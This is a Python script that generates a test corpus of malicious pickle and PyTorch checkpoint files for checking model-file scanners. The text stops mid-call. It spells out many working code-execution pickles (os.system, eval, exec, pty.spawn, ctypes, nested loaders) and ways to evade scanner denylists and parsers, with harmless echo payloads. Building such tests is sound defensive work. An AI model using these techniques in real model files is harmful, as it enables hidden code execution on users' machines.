#!/usr/bin/env python3
"""Writes the adversarial scanner corpus into Fixtures/adversarial/files/.

Run with any Python 3.9+; only the standard library is used:

    python3 Fixtures/adversarial/generate.py

Every pickle is assembled opcode by opcode (pickleasm.py) and every archive is
laid out byte by byte (zipasm.py); benign protocol variants of plain data come
from pickle.dumps of built-in containers. Nothing is ever unpickled or run:
the generator only disassembles its own output with pickletools to check it is
well formed (except where a file is broken on purpose).

The malicious files would run `echo modelvet-fixture` (or open a loopback URL)
if a victim loaded them. Never load them.

MANIFEST.json maps each file name to {"label": "malicious"|"benign",
"class": bypass class id, "description": ..., "sha256": ..., "size": ...,
and "notes" where the expectation needs a caveat}.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import pickletools
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

from pickleasm import *  # noqa: E402,F401,F403  (opcode vocabulary)
from pickleasm import PYTHON_SOURCE, SHELL_COMMAND  # noqa: E402
from torchlike import legacy_stacked, state_dict_pickle, torch_zip, torch_zip_members, ustar  # noqa: E402
from zipasm import (  # noqa: E402
    DEFLATED, FLAG_COMPRESSED_PATCH, FLAG_ENCRYPTED, UNIX_SYMLINK_MODE, Member, build_zip,
)

OUT_DIR = os.path.join(HERE, "files")
MAX_FILE = 20 * 1024
MAX_TOTAL = 1024 * 1024

# marshal.dumps(compile("print('modelvet-fixture')\n",
#                       "<modelvet-fixture>", "exec")) under CPython 3.11.
# Kept as a constant so the corpus does not depend on the generating Python.
CODE_OBJECT_311 = bytes.fromhex(
    "e30000000000000000000000000300000000000000f31c0000009700020065006400a601"
    "0000ab01000000000000000001006401530029027a106d6f64656c7665742d6669787475"
    "72654e2901da057072696e74a900f300000000fa123c6d6f64656c7665742d6669787475"
    "72653efa083c6d6f64756c653e720600000001000000731c000000f003010101d8000580"
    "05d00618d10019d40019d00019d00019d000197204000000"
)

CORPUS: dict[str, dict] = {}
CONTENT: dict[str, bytes] = {}


def add(name: str, label: str, klass: str, description: str, data: bytes, *,
        check: str = "pickle", notes: str | None = None) -> None:
    """Registers one file. check: 'pickle' (must disassemble), 'none' (broken on purpose
    or not a single pickle stream), 'ops' (opcodes decode; stack/memo not checked)."""
    if name in CORPUS:
        raise ValueError(f"duplicate fixture {name}")
    if check == "pickle":
        pickletools.dis(data, out=io.StringIO())
    elif check == "ops":
        # pickletools.dis rejects some streams CPython loads (a memo slot written twice);
        # still require every opcode to decode up to STOP.
        ops = list(pickletools.genops(data))
        if ops[-1][0].name != "STOP":
            raise ValueError(f"{name}: no STOP")
    entry = {"label": label, "class": klass, "description": description}
    if notes:
        entry["notes"] = notes
    CORPUS[name] = entry
    CONTENT[name] = data


def M(name, klass, description, data, **kw):
    add(name, "malicious", klass, description, data, **kw)


def B(name, klass, description, data, **kw):
    add(name, "benign", klass, description, data, **kw)


def p2(body: bytes) -> bytes:
    return proto(2) + body + STOP


def p4(body: bytes) -> bytes:
    return proto(4) + body + STOP


def checked(inner: bytes) -> bytes:
    pickletools.dis(inner, out=io.StringIO())
    return inner


INNER_PAYLOAD = checked(payload_pickle_p2("os", "system"))
CMD = SHELL_COMMAND
SRC = PYTHON_SOURCE


# ---------------------------------------------------------------------------
# Direct calls and callables missing from denylists
# ---------------------------------------------------------------------------
def denylist_gaps() -> None:
    M("baseline_os_system.pkl", "baseline",
      "Control: os.system(cmd) via GLOBAL + REDUCE at protocol 2; every scanner should flag it.",
      payload_pickle_p2("os", "system"))
    M("alias_posix_system.pkl", "module_alias",
      "posix.system: the module os.system really lives in on Linux (pickle.dumps(os.system) writes this name).",
      payload_pickle_p2("posix", "system"))
    M("py2_builtin_eval.pkl", "py2_compat_name",
      "__builtin__.eval (Python 2 module name, mapped to builtins by _compat_pickle while protocol < 3) on a Python expression.",
      p2(call(global_("__builtin__", "eval"), binunicode(SRC))))
    M("py2_commands_getoutput.pkl", "py2_compat_name",
      "commands.getoutput: Python 2 'commands' is mapped to subprocess under protocol < 3, so this is subprocess.getoutput(cmd).",
      payload_pickle_p2("commands", "getoutput"))
    M("py2_cpickle_loads.pkl", "py2_compat_name",
      "cPickle.loads (mapped to pickle.loads) of an inner os.system pickle; the bytes come from _codecs.encode(text, 'latin1') as protocol 2 writes bytes.",
      p2(call(global_("cPickle", "loads"),
              call(global_("_codecs", "encode"), binunicode(INNER_PAYLOAD.decode("latin1")), binunicode("latin1")))))
    M("pkgutil_resolve_name.pkl", "universal_resolver",
      "pkgutil.resolve_name('os:system') returns os.system, which is then called: one allowed-looking import reaches any callable.",
      p2(call(call(global_("pkgutil", "resolve_name"), binunicode("os:system")), binunicode(CMD))))
    M("pydoc_locate.pkl", "universal_resolver",
      "pydoc.locate('os.system') then call the result.",
      p2(call(call(global_("pydoc", "locate"), binunicode("os.system")), binunicode(CMD))))
    M("importlib_import_module_getattr.pkl", "universal_resolver",
      "importlib.import_module('os') then builtins.getattr(module, 'system') then call.",
      p4(call(call(stack_global("builtins", "getattr"),
                   call(stack_global("importlib", "import_module"), sbu("os")), sbu("system")),
              sbu(CMD))))
    M("operator_attrgetter_tempfile_os.pkl", "denylist_gap",
      "operator.attrgetter('system') applied to tempfile._os (the os module under a private alias), then called.",
      p2(call(call(call(global_("operator", "attrgetter"), binunicode("system")), global_("tempfile", "_os")),
              binunicode(CMD))))
    M("_operator_methodcaller.pkl", "denylist_gap",
      "_operator.methodcaller('system', cmd) (C module spelling) applied to posixpath.os.",
      p2(call(call(global_("_operator", "methodcaller"), binunicode("system"), binunicode(CMD)),
              global_("posixpath", "os"))))
    inner_partial = call(global_("functools", "partial"), global_("pydoc", "locate"), binunicode("os.system"))
    M("functools_partial_chain.pkl", "callable_wrapper",
      "partial(partial(pydoc.locate, 'os.system'))() yields os.system, which is then called: the REDUCE targets are partial objects, not globals.",
      p2(call(call(call(global_("functools", "partial"), inner_partial), ), binunicode(CMD))))
    M("runpy_run_code.pkl", "denylist_gap",
      "runpy._run_code(source, {}) execs Python source.",
      p2(call(global_("runpy", "_run_code"), binunicode(SRC), EMPTY_DICT)))
    M("timeit_timeit.pkl", "denylist_gap",
      "timeit.timeit(source, 'pass', time.perf_counter, 1) execs the statement once.",
      p2(call(global_("timeit", "timeit"), binunicode(SRC), binunicode("pass"),
              global_("time", "perf_counter"), binint1(1))))
    M("pdb_run.pkl", "denylist_gap",
      "pdb.run(source): runs the statement under the debugger.",
      p2(call(global_("pdb", "run"), binunicode(SRC))))
    M("code_interactive_runsource.pkl", "denylist_gap",
      "code.InteractiveInterpreter.runsource(InteractiveInterpreter(), source) via a dotted protocol 4 name (picklescan lists only .runcode).",
      p4(call(stack_global("code", "InteractiveInterpreter.runsource"),
              call(stack_global("code", "InteractiveInterpreter")), sbu(SRC))))
    M("cprofile_run.pkl", "denylist_gap",
      "cProfile.run(source) execs the statement in __main__.",
      p2(call(global_("cProfile", "run"), binunicode(SRC))))
    M("webbrowser_open.pkl", "denylist_gap",
      "webbrowser.open on a loopback URL (network/process side effect).",
      p2(call(global_("webbrowser", "open"), binunicode("http://127.0.0.1:9/modelvet-fixture"))))
    M("asyncio_create_subprocess_shell.pkl", "denylist_gap",
      "asyncio.run(asyncio.create_subprocess_shell(cmd)).",
      p4(call(stack_global("asyncio", "run"), call(stack_global("asyncio", "create_subprocess_shell"), sbu(CMD)))))
    fork_args = [
        EMPTY_LIST + MARK + short_binbytes(b"/bin/sh") + short_binbytes(b"-c") + short_binbytes(CMD.encode()) + APPENDS,
        EMPTY_LIST + short_binbytes(b"/bin/sh") + APPEND,
        NEWFALSE, EMPTY_TUPLE, NONE, NONE,
        binint(-1), binint(-1), binint(-1), binint(-1), binint(-1), binint(-1), binint(-1), binint(-1),
        NEWFALSE, NEWFALSE, binint(-1), NONE, NONE, NONE, binint(-1), NONE, NEWFALSE,
    ]
    M("posixsubprocess_fork_exec.pkl", "denylist_gap",
      "_posixsubprocess.fork_exec with the 23-argument list of CPython 3.11 (what subprocess.Popen calls underneath).",
      p4(call(stack_global("_posixsubprocess", "fork_exec"), *fork_args)))
    M("pty_spawn.pkl", "denylist_gap",
      "pty.spawn(['/bin/sh', '-c', cmd]) (fickling once missed pty).",
      p2(call(global_("pty", "spawn"),
              EMPTY_LIST + MARK + binunicode("/bin/sh") + binunicode("-c") + binunicode(CMD) + APPENDS)))
    M("ctypes_cdll_system.pkl", "denylist_gap",
      "ctypes.CDLL(None).__getitem__('system')(b'cmd'): libc's system through ctypes, using the dotted name CDLL.__getitem__.",
      p4(call(call(stack_global("ctypes", "CDLL.__getitem__"), call(stack_global("ctypes", "CDLL"), NONE), sbu("system")),
              short_binbytes(CMD.encode()))))
    M("multiprocessing_spawnv_passfds.pkl", "denylist_gap",
      "multiprocessing.util.spawnv_passfds(b'/bin/sh', ['/bin/sh', '-c', cmd], ()) forks and execs.",
      p4(call(stack_global("multiprocessing.util", "spawnv_passfds"), short_binbytes(b"/bin/sh"),
              EMPTY_LIST + MARK + sbu("/bin/sh") + sbu("-c") + sbu(CMD) + APPENDS, EMPTY_TUPLE)))
    M("torch_hub_load.pkl", "denylist_gap",
      "torch.hub.load('modelvet/fixture', 'model'): downloads a repository and runs its hubconf.py.",
      p2(call(global_("torch.hub", "load"), binunicode("modelvet/fixture"), binunicode("model"))))
    M("torch_collect_env_run.pkl", "denylist_gap",
      "torch.utils.collect_env.run(cmd) runs a shell command.",
      payload_pickle_p2("torch.utils.collect_env", "run"))
    M("torch_jit_execwrapper.pkl", "denylist_gap",
      "torch.jit.unsupported_tensor_ops.execWrapper(source, {}, {}) calls exec.",
      p2(call(global_("torch.jit.unsupported_tensor_ops", "execWrapper"), binunicode(SRC), EMPTY_DICT, EMPTY_DICT)))
    M("numpy_testing_runstring.pkl", "denylist_gap",
      "numpy.testing._private.utils.runstring(source, {}) is exec under another name (numpy < 2).",
      p2(call(global_("numpy.testing._private.utils", "runstring"), binunicode(SRC), EMPTY_DICT)))
    M("marshal_functiontype.pkl", "code_object",
      "types.FunctionType(marshal.loads(<code object>), {})() builds a function from marshalled bytecode and calls it (CPython 3.11 bytecode).",
      p4(call(call(stack_global("types", "FunctionType"),
                   call(stack_global("marshal", "loads"), binbytes(CODE_OBJECT_311)), EMPTY_DICT))),
      notes="The code object is CPython 3.11 marshal data; other versions raise in marshal.loads, but scanners must flag it regardless.")
    M("builtins_getattr_chain.pkl", "getattr_chain",
      "builtins.getattr(posixpath.os, 'system')(cmd): the called function never appears as an import.",
      p2(call(call(global_("__builtin__", "getattr"), global_("posixpath", "os"), binunicode("system")),
              binunicode(CMD))))
    M("dataclasses_create_fn.pkl", "denylist_gap",
      "dataclasses._create_fn('f', [default-argument expression], ['return 1']) execs generated source; the default expression runs (CPython <= 3.12).",
      p4(call(stack_global("dataclasses", "_create_fn"), sbu("f"),
              EMPTY_LIST + sbu("a=" + SRC) + APPEND,
              EMPTY_LIST + sbu("return 1") + APPEND)))
    M("import_side_effect_antigravity.pkl", "denylist_gap",
      "Importing antigravity opens a web browser as a side effect; the imported name (geohash) is harmless.",
      p4(stack_global("antigravity", "geohash") + POP + NONE))
    M("torch_rebuild_from_type_forwarder.pkl", "callable_wrapper",
      "torch._tensor._rebuild_from_type_v2(subprocess.getoutput, torch.Tensor, (cmd,), {}): an allowlisted torch helper calls the function it is given before anything else.",
      p4(call(stack_global("torch._tensor", "_rebuild_from_type_v2"),
              stack_global("subprocess", "getoutput"), stack_global("torch", "Tensor"),
              sbu(CMD) + TUPLE1, EMPTY_DICT)))
    M("pop_discarded_result.pkl", "unused_result",
      "os.system(cmd) whose result is POPped, then an empty dict is the unpickled value (analysers that drop unused calls miss it).",
      p2(system_call_p2() + POP + EMPTY_DICT))


# ---------------------------------------------------------------------------
# Nested loaders: the payload is a pickle inside an operand
# ---------------------------------------------------------------------------
def nested() -> None:
    M("nested_pickle_loads_binbytes.pkl", "nested_pickle",
      "pickle.loads(BINBYTES <inner pickle calling os.system>).",
      p4(call(stack_global("pickle", "loads"), binbytes(INNER_PAYLOAD))))
    M("nested__pickle_loads_short_binbytes.pkl", "nested_pickle",
      "_pickle.loads(SHORT_BINBYTES <inner pickle>) (the C module spelling).",
      p4(call(stack_global("_pickle", "loads"), short_binbytes(INNER_PAYLOAD))))
    M("nested_bytearray8_p5.pkl", "nested_pickle",
      "Protocol 5: pickle.loads(BYTEARRAY8 <inner pickle>).",
      proto(5) + call(stack_global("pickle", "loads"), bytearray8(INNER_PAYLOAD)) + STOP)
    M("torch_load_nested.pkl", "nested_pickle",
      "torch.load(io.BytesIO(<inner pickle>)): the legacy loader unpickles the first stream (the 'magic number') and runs the payload.",
      p4(call(stack_global("torch", "load"), call(stack_global("io", "BytesIO"), binbytes(INNER_PAYLOAD)))))
    M("numpy_load_nested.pkl", "nested_pickle",
      "numpy.load(io.BytesIO(<inner pickle>), None, True): allow_pickle passed positionally, so numpy unpickles the inner stream.",
      p4(call(stack_global("numpy", "load"), call(stack_global("io", "BytesIO"), binbytes(INNER_PAYLOAD)),
              NONE, NEWTRUE)))


# ---------------------------------------------------------------------------
# Dotted-name traversal, namespaces and BUILD
# ---------------------------------------------------------------------------
def traversal() -> None:
    M("dotted_torch_serialization_os.pkl", "dotted_traversal",
      "STACK_GLOBAL('torch', 'serialization.os.system'): protocol 4 find_class walks the dotted name into the os module torch.serialization imported.",
      p4(system_call_p4("torch", "serialization.os.system")))
    M("dotted_numpy_ctypeslib_os.pkl", "dotted_traversal",
      "STACK_GLOBAL('numpy', 'ctypeslib.os.system') (numpy 1.x module layout).",
      p4(system_call_p4("numpy", "ctypeslib.os.system")))
    M("dotted_numpy_core_internal_ctypes.pkl", "dotted_traversal",
      "Every import is under 'numpy': core._internal.ctypes.CDLL(None) then core._internal.ctypes.CDLL.__getitem__(lib, 'system')(b'cmd').",
      p4(call(call(stack_global("numpy", "core._internal.ctypes.CDLL.__getitem__"),
                   call(stack_global("numpy", "core._internal.ctypes.CDLL"), NONE), sbu("system")),
              short_binbytes(CMD.encode()))))
    M("dotted_posixpath_os.pkl", "dotted_traversal",
      "STACK_GLOBAL('posixpath', 'os.system'): os.path's module re-exports os.",
      p4(system_call_p4("posixpath", "os.system")))
    M("dotted_private_alias_random_os.pkl", "dotted_traversal",
      "STACK_GLOBAL('random', '_os.system'): stdlib private alias of os.",
      p4(system_call_p4("random", "_os.system")))
    M("dotted_collections_builtins_exec.pkl", "dotted_traversal",
      "STACK_GLOBAL('collections', 'namedtuple.__builtins__.get')('exec')(source): a function's __builtins__ dict reached by attribute walk.",
      p4(call(call(stack_global("collections", "namedtuple.__builtins__.get"), sbu("exec")), sbu(SRC))))
    M("dotted_collections_globals.pkl", "dotted_traversal",
      "STACK_GLOBAL('collections', 'namedtuple.__globals__.get')('__builtins__') yields the builtins dict of the collections module; builtins.dict.get(it, 'exec')(source). (OrderedDict.__init__ has no __globals__ in CPython, whose OrderedDict is C; a pure-Python function of the same module is the equivalent.)",
      p4(call(call(stack_global("builtins", "dict.get"),
                   call(stack_global("collections", "namedtuple.__globals__.get"), sbu("__builtins__")), sbu("exec")),
              sbu(SRC))))
    M("dotted_allowlisted_prefix.pkl", "dotted_traversal",
      "STACK_GLOBAL('torch._utils', '_rebuild_tensor_v2.__builtins__.get')('exec'): the name starts with an allowlisted function.",
      p4(call(call(stack_global("torch._utils", "_rebuild_tensor_v2.__builtins__.get"), sbu("exec")), sbu(SRC))))
    M("dotted_builtins_dict_get.pkl", "dotted_traversal",
      "STACK_GLOBAL('builtins', '__dict__.get')('exec')(source): denylists keyed on builtins names see '__dict__.get'.",
      p4(call(call(stack_global("builtins", "__dict__.get"), sbu("exec")), sbu(SRC))))
    M("namespace_dict_get.pkl", "dotted_traversal",
      "builtins.dict.get(numpy.__builtins__, 'exec')(source): module namespace dict read with an allowed dict method.",
      p4(call(call(stack_global("builtins", "dict.get"), stack_global("numpy", "__builtins__"), sbu("exec")), sbu(SRC))))
    size = stack_global("numpy", "size") + MEMOIZE  # memo 0
    M("build_setattr_numpy_size.pkl", "build_setattr",
      "BUILD sets numpy.size.shape = numpy.__builtins__; numpy.size(numpy.size, 'exec') then returns a.shape['exec'], i.e. exec.",
      p4(size + NONE + EMPTY_DICT + sbu("shape") + stack_global("numpy", "__builtins__") + SETITEM + TUPLE2 + BUILD + POP
         + call(call(binget(0), binget(0), sbu("exec")), sbu(SRC))))
    target = stack_global("torch._utils", "_rebuild_parameter") + MEMOIZE  # memo 0
    M("build_code_swap.pkl", "build_setattr",
      "BUILD replaces torch._utils._rebuild_parameter.__code__ with marshalled bytecode, then calls the allowlisted function.",
      p4(target + NONE + EMPTY_DICT + sbu("__code__")
         + call(stack_global("marshal", "loads"), binbytes(CODE_OBJECT_311)) + SETITEM + TUPLE2 + BUILD + POP
         + call(binget(0))),
      notes="CPython 3.11 code object; the pattern (BUILD on an imported function) is what must be flagged.")
    # BUILD stores a string on a function, which a later dotted STACK_GLOBAL reads back as an operand.
    M("build_operand_smuggle.pkl", "build_setattr",
      "BUILD sets numpy.prod.a = 'os'; STACK_GLOBAL(numpy 'prod.a' -> 'os', 'system') is then computed from state, not literals.",
      p4(stack_global("numpy", "prod") + NONE + EMPTY_DICT + sbu("a") + sbu("os") + SETITEM + TUPLE2 + BUILD + POP
         + stack_global("numpy", "prod.a") + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))


# ---------------------------------------------------------------------------
# Memo and operand confusion
# ---------------------------------------------------------------------------
def memo_and_operands() -> None:
    M("memo_binget_operands.pkl", "memo_confusion",
      "STACK_GLOBAL operands fetched with BINGET from slots written earlier, with decoy strings in between.",
      p4(sbu("os") + binput(0) + POP + sbu("system") + binput(1) + POP
         + sbu("torch._utils") + sbu("_rebuild_tensor_v2") + POP + POP
         + binget(0) + binget(1) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    M("memo_overwrite.pkl", "memo_confusion",
      "Slot 0 first holds 'torch', then is overwritten with 'os' before the BINGET that feeds STACK_GLOBAL.",
      p4(sbu("torch") + binput(0) + POP + sbu("os") + binput(0) + POP + sbu("system") + binput(1) + POP
         + binget(0) + binget(1) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE), check="ops")
    M("memo_double_put.pkl", "memo_confusion",
      "'os' BINPUT 0 BINPUT 1: slot 1 holds 'os', but scanners that memoise 'the previous opcode's argument' record 0.",
      p4(sbu("os") + binput(0) + binput(1) + POP + sbu("system") + binput(2) + POP
         + binget(1) + binget(2) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    M("memoize_twice.pkl", "memo_confusion",
      "'posix' MEMOIZE MEMOIZE: slot 1 holds 'posix', not the previous opcode's (empty) argument.",
      p4(sbu("posix") + MEMOIZE + MEMOIZE + POP + sbu("system") + MEMOIZE + POP
         + binget(1) + binget(2) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    M("memo_mixed_memoize_binput.pkl", "memo_confusion",
      "BINPUT 0/1 then MEMOIZE (which takes the next free index, 2 and 3) mixed; BINGET 0/1 still hold os/system.",
      p4(sbu("os") + binput(0) + sbu("system") + binput(1) + POP + POP
         + sbu("torch._utils") + MEMOIZE + sbu("_rebuild_tensor_v2") + MEMOIZE + POP + POP
         + binget(0) + binget(1) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    M("memo_long_and_text.pkl", "memo_confusion",
      "Operands stored with LONG_BINPUT 70000 and protocol 0 PUT/GET text indices.",
      p4(sbu("os") + long_binput(70000) + POP + sbu("system") + put0(12) + POP
         + long_binget(70000) + get0(12) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    M("operand_string_binstring.pkl", "operand_type",
      "STACK_GLOBAL operands as STRING and BINSTRING (Python 3 decodes both to str).",
      p4(string0("os") + binstring("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    M("operand_short_binstring_unicode.pkl", "operand_type",
      "STACK_GLOBAL operands as SHORT_BINSTRING and protocol 0 UNICODE.",
      p4(short_binstring("posix") + unicode0("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    M("operand_binunicode8.pkl", "operand_type",
      "STACK_GLOBAL operands as BINUNICODE8 and BINUNICODE.",
      p4(binunicode8("os") + binunicode("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    decoded = call(stack_global("_codecs", "decode"), short_binbytes(b"os"), sbu("latin1"))
    M("operand_from_reduce_codecs.pkl", "operand_unresolvable",
      "STACK_GLOBAL module operand is the result of _codecs.decode(SHORT_BINBYTES b'os', 'latin1'): computed at load time, not a literal.",
      p4(decoded + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    joined = call(stack_global("builtins", "str.join"), sbu(""), EMPTY_LIST + MARK + sbu("o") + sbu("s") + APPENDS)
    M("operand_from_str_join.pkl", "operand_unresolvable",
      "STACK_GLOBAL module operand is str.join('', ['o', 's']).",
      p4(joined + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    M("operand_pop_mark_decoy.pkl", "operand_type",
      "'os', MARK, decoy strings, POP_MARK, 'system', STACK_GLOBAL: the two strings nearest STACK_GLOBAL are not its operands.",
      p4(sbu("os") + MARK + sbu("torch._utils") + sbu("_rebuild_tensor_v2") + POP_MARK + sbu("system")
         + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE))
    M("operand_bytes_crash.pkl", "operand_type",
      "posix.system(cmd) runs first; then STACK_GLOBAL gets a bytes operand (CPython raises there, after the payload ran; some scanners crash on it).",
      p4(system_call_p4("posix", "system") + POP + short_binbytes(b"os") + sbu("system") + STACK_GLOBAL + POP + NONE))


# ---------------------------------------------------------------------------
# Call forms, extension registry, broken and stacked streams, framing
# ---------------------------------------------------------------------------
def call_forms() -> None:
    M("inst_os_system.pkl", "call_form",
      "Protocol 0: MARK STRING INST os system: INST imports and calls in one opcode.",
      MARK + string0(CMD) + inst("os", "system") + STOP)
    M("obj_opcode.pkl", "call_form",
      "Protocol 1: MARK GLOBAL posix.system STRING OBJ: OBJ calls a non-class callable with the marked items.",
      MARK + global_("posix", "system") + binstring(CMD) + OBJ + STOP)
    M("newobj_ex_partial.pkl", "call_form",
      "NEWOBJ_EX(functools.partial, (os.system, cmd), {}) builds a partial, then REDUCE with () calls it.",
      p4(stack_global("functools", "partial") + stack_global("os", "system") + sbu(CMD) + TUPLE2 + EMPTY_DICT
         + NEWOBJ_EX + EMPTY_TUPLE + REDUCE))
    M("newobj_partial.pkl", "call_form",
      "NEWOBJ(functools.partial, (subprocess.getoutput, cmd)) then REDUCE with ().",
      p2(global_("functools", "partial") + global_("subprocess", "getoutput") + binunicode(CMD) + TUPLE2
         + NEWOBJ + EMPTY_TUPLE + REDUCE))
    note = ("Stock CPython has an empty copyreg extension registry and raises; a process where any library "
            "registered codes resolves whatever was registered. No module text is present, so the import is unresolvable.")
    M("ext1_registry.pkl", "extension_registry",
      "EXT1 0x01 pushes the global registered under code 1, which is then called with the command.",
      p2(ext1(1) + binunicode(CMD) + TUPLE1 + REDUCE), notes=note)
    M("ext2_ext4_registry.pkl", "extension_registry",
      "EXT2 0x1234 and EXT4 0x7fff0001 as callables.",
      p2(ext2(0x1234) + binunicode(CMD) + TUPLE1 + REDUCE + POP + ext4(0x7FFF0001) + binunicode(CMD) + TUPLE1 + REDUCE),
      notes=note)


def broken_and_stacked() -> None:
    payload = proto(2) + system_call_p2("posix", "system")
    M("broken_truncated_tail.pkl", "broken_stream",
      "posix.system(cmd) REDUCE, then a BINUNICODE whose declared length runs past the end of file (no STOP).",
      payload + b"X" + (1000).to_bytes(4, "little") + b"tail", check="none")
    M("broken_invalid_opcode.pkl", "broken_stream",
      "posix.system(cmd) REDUCE, then byte 0xff, which is no opcode.",
      payload + b"\xff" + STOP, check="none")
    M("broken_missing_stop.pkl", "broken_stream",
      "posix.system(cmd) REDUCE and nothing after it: no STOP.",
      payload, check="none")
    M("broken_stack_underflow.pkl", "broken_stream",
      "posix.system(cmd) REDUCE, POP, then POP on an empty stack and STOP: valid opcodes, invalid stack.",
      payload + POP + POP + STOP, check="none")
    benign = pickle.dumps({"step": 1, "lr": 0.001}, protocol=2)
    M("stacked_benign_then_malicious.pkl", "stacked_pickle",
      "A complete benign pickle followed by a complete malicious one; loaders that call pickle.load repeatedly (legacy torch, joblib, loops) run the second.",
      benign + payload_pickle_p2("os", "system"), check="none")
    M("junk_prefix_valid_ops.pkl", "junk_prefix",
      "40 NONE/POP pairs before PROTO 2 and the payload: the file does not start with \\x80 but loads (PROTO is legal mid-stream).",
      b"N0" * 40 + payload_pickle_p2("os", "system"))
    legacy = (long1(0x1950A86A20F9469CFC6C) + STOP, p2(binint2(1001)),
              p2(system_call_p2("os", "system") + POP + EMPTY_DICT),
              p2(EMPTY_DICT), p2(EMPTY_LIST))
    M("legacy_stacked_sysinfo_payload.pt", "stacked_pickle",
      "Legacy (non-zip) torch layout: magic number, protocol 1001, sys_info, object, storage keys; the payload is in sys_info, the third stream torch unpickles.",
      b"".join((proto(2) + legacy[0],) + legacy[1:]), check="none")
    M("legacy_tar_storages_payload.pt", "legacy_tar",
      "PyTorch <= 0.3 tar checkpoint: torch.load tries tar first for non-zip files and unpickles the 'storages' member before anything else; that member calls os.system.",
      ustar([("sys_info", p2(EMPTY_DICT)), ("pickle", p2(EMPTY_DICT)),
             ("tensors", p2(binint1(0))), ("storages", payload_pickle_p2("os", "system"))]),
      check="none")


def protocols_and_frames() -> None:
    M("proto0_text.pkl", "protocol0",
      "Classic protocol 0 text pickle: cos\\nsystem\\n(S'cmd'\\ntR.",
      global_("os", "system") + MARK + string0(CMD) + TUPLE + REDUCE + STOP)
    M("proto0_unicode_put_get.pkl", "protocol0",
      "Protocol 0 with UNICODE operands, PUT/GET memo text and INT: posix.system via GET.",
      unicode0(CMD) + put0(0) + POP + global_("posix", "system") + put0(1) + POP
      + get0(1) + MARK + get0(0) + TUPLE + REDUCE + STOP)
    body5 = (bytearray8(b"\x00" * 16) + POP + bytearray8(b"padding") + READONLY_BUFFER + POP
             + system_call_p4("posix", "system") + POP + NEXT_BUFFER + STOP)
    M("proto5_buffers.pkl", "protocol5",
      "Protocol 5 opcodes (BYTEARRAY8, READONLY_BUFFER) before the payload and NEXT_BUFFER after it (fails without out-of-band buffers, after the payload ran).",
      proto(5) + frame(len(body5)) + body5)
    framed_part = EMPTY_DICT + sbu("step") + binint1(3) + SETITEM + POP
    M("frame_unframed_tail.pkl", "frame_trick",
      "A FRAME covers a benign dict; the payload follows outside any frame.",
      proto(4) + frame(len(framed_part)) + framed_part + system_call_p4("os", "system") + STOP)
    first = sbu("os") + sbu("system")
    second = STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP
    M("frame_split_operands.pkl", "frame_trick",
      "STACK_GLOBAL operands in one frame, the STACK_GLOBAL and REDUCE in the next (and an empty frame between).",
      proto(4) + frame(len(first)) + first + frame(0) + frame(len(second)) + second)


# ---------------------------------------------------------------------------
# Containers: PyTorch-style zips and friends
# ---------------------------------------------------------------------------
def containers() -> None:
    benign_pkl = state_dict_pickle()
    bad_pkl = state_dict_pickle(prefix_ops=system_call_p2("os", "system") + POP)
    checked(benign_pkl)
    checked(bad_pkl)
    proto0_payload = checked(global_("os", "system") + MARK + string0(CMD) + TUPLE + REDUCE + STOP)

    M("zip_payload_in_data_member.pt", "zip_member_name",
      "Benign data.pkl; a complete os.system pickle stored as archive/data/9 (a storage-like name with no .pkl extension).",
      torch_zip(benign_pkl, extra=[Member("archive/data/9", INNER_PAYLOAD, align=64)]), check="none",
      notes="torch.load itself reads data/9 as raw storage bytes; the pickle runs for any loader that unpickles that member.")
    M("zip_payload_extra_bin.pt", "zip_member_name",
      "Benign data.pkl; payload pickle as archive/extra.bin.",
      torch_zip(benign_pkl, extra=[Member("archive/extra.bin", INNER_PAYLOAD)]), check="none",
      notes="torch.load ignores extra.bin; any loader that unpickles it runs the payload.")
    M("zip_protocol0_member.pt", "zip_member_name",
      "Benign data.pkl; a protocol 0 payload (no \\x80 magic) as archive/extra/blob.",
      torch_zip(benign_pkl, extra=[Member("archive/extra/blob", proto0_payload)]), check="none",
      notes="Not loaded by torch.load itself; a scanner sniffing only for \\x80 misses it.")
    M("zip_custom_prefix.pt", "zip_member_name",
      "Malicious data.pkl under the archive folder 'checkpoint_v2/' instead of 'archive/': torch takes the prefix from the first entry.",
      torch_zip(bad_pkl, prefix="checkpoint_v2"), check="none")
    members = torch_zip_members(bad_pkl)
    members[0].local_name = "archive/data.txt"
    M("zip_name_mismatch.pt", "zip_name_mismatch",
      "Central directory says archive/data.pkl (malicious), its local header says archive/data.txt; PyTorch reads by central name, Python's zipfile refuses (CVE-2025-1944 class).",
      build_zip(members), check="none")
    dup = torch_zip_members(benign_pkl)
    dup.insert(0, Member("archive/data.pkl", bad_pkl, align=64))
    M("zip_duplicate_data_pkl.pt", "zip_duplicate_entry",
      "Two central entries named archive/data.pkl: the malicious copy first, the benign copy last (zipfile.getinfo returns the last).",
      build_zip(dup), check="none",
      notes="Which copy torch's miniz reader picks for a duplicate name is not verified here; the file holds a malicious data.pkl either way.")
    M("polyglot_pickle_then_zip.pt", "zip_prepended_data",
      "A malicious pickle followed by a complete benign torch zip: torch.load sees no PK magic at offset 0 and unpickles the leading stream; zip readers find the benign archive from its end record.",
      INNER_PAYLOAD + torch_zip(benign_pkl), check="none")
    M("polyglot_pickle_then_zip.pkl", "zip_prepended_data",
      "Same polyglot with a .pkl name: pickle.load runs the leading stream.",
      INNER_PAYLOAD + torch_zip(benign_pkl), check="none")
    M("zip_prepended_junk.pt", "zip_prepended_data",
